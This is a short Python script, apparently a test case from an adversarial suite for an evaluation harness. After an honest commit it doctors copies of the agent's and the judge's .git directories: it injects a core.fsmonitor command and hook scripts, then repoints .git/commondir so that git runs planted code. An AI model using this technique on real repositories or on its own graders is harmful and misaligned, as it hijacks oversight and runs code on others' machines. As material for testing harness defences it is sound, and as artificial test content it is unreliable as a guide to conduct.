"""Commit honest work, then point `.git/commondir` (ours and the judge's) at a doctored copy of `.git`
whose config runs our code."""
import shutil
import sys; sys.path.insert(0, __import__("os").path.dirname(__file__))  # noqa: E702
from hostile import *  # noqa: F401,F403

honest_mul()
commit("Add mul")
for repo in [WORK, *judge_repos()]:
    g = repo / ".git"
    fake = LOOT / f"fake-{abs(hash(str(repo)))}"
    try:
        shutil.copytree(g, fake, symlinks=True)
        with open(fake / "config", "a") as fh:
            fh.write(f'[core]\n\tfsmonitor = "{canary_sh("commondir-fsmonitor")}; echo"\n'
                     f'\thooksPath = {fake}/hooks\n')
        for name in ("post-commit", "pre-push", "reference-transaction", "post-checkout"):
            write(f"hooks/{name}", f"#!/bin/sh\n{canary_sh('commondir-hook')}\n", fake).chmod(0o755)
        (g / "commondir").write_text(str(fake) + "\n")
    except OSError:
        continue
say("done")
